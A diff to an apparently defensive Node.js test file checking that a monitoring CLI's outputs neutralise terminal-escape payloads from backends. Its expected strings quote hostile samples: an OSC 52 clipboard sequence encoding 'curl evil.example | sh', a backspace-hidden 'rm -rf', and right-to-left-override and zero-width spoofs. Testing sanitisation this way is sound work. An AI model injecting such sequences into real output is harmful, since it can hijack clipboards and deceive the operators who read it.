@@ -1,15 +1,16 @@
 // The escape payloads from every backend, on every non-interactive output:
 // nothing unsafe gets through, and each output shows the payload made visible
 // (so the check is not passing on an output that never saw it).
-import { test, after } from 'node:test';
+
 import assert from 'node:assert/strict';
 import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { after, test } from 'node:test';
+import { mdText } from '../../src/text/markdown.js';
 import { runCli } from '../helpers/cli.js';
 import { escapeBackend, escapeConfig } from '../helpers/escape-backend.js';
 import { HOSTILE, jsonStrings, literal, PAYLOADS, SHOWN, unsafeIn } from '../helpers/escape-payloads.js';
-import { mdText } from '../../src/text/markdown.js';
 
 const server = await escapeBackend();
 after(() => server.close());
@@ -41,7 +42,11 @@ test('watch --once: label names and values, warnings, Prometheus, Loki and Sentr
   assert.ok(r.stdout.includes('k␛]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==␇␛]52;c;?␛\\="invoice<U+202E>fdp.exe"'), 'the label name');
   assert.ok(r.stdout.includes(`loki: query rejected (http 400): parse error at line 1, col 11: ${SHOWN}`));
   assert.ok(r.stdout.includes(`sentry: query rejected (http 400): ${SHOWN}`));
-  assert.ok(r.stdout.includes('FAKE-ERROR␍ALL GOOD rm -rf␈␈␈␈␈␈ls     v␋t f␌f ding␇ n␀ul d␡el c1\\x9b2J invoice<U+202E>fdp.exe ad<U+200B>min tag<U+E0001><U+E0069><U+E0067><U+E007F>'));
+  assert.ok(
+    r.stdout.includes(
+      'FAKE-ERROR␍ALL GOOD rm -rf␈␈␈␈␈␈ls     v␋t f␌f ding␇ n␀ul d␡el c1\\x9b2J invoice<U+202E>fdp.exe ad<U+200B>min tag<U+E0001><U+E0069><U+E0067><U+E007F>',
+    ),
+  );
 });
 
 test('watch --once --json: every string in the document, keys included, is clean', async () => {
@@ -81,7 +86,7 @@ test('report, text, markdown and JSON, weekly and daily: backend errors and inci
   for (const s of jsonStrings(JSON.parse(j.stdout))) clean('a report JSON string', s);
 });
 
-test('incident --json: probe summaries carry the backends\' errors made visible', async () => {
+test("incident --json: probe summaries carry the backends' errors made visible", async () => {
   const r = await runCli(['incident', 'hostile', '--json', '--config', config]);
   clean('stdout', r.stdout);
   clean('stderr', r.stderr);
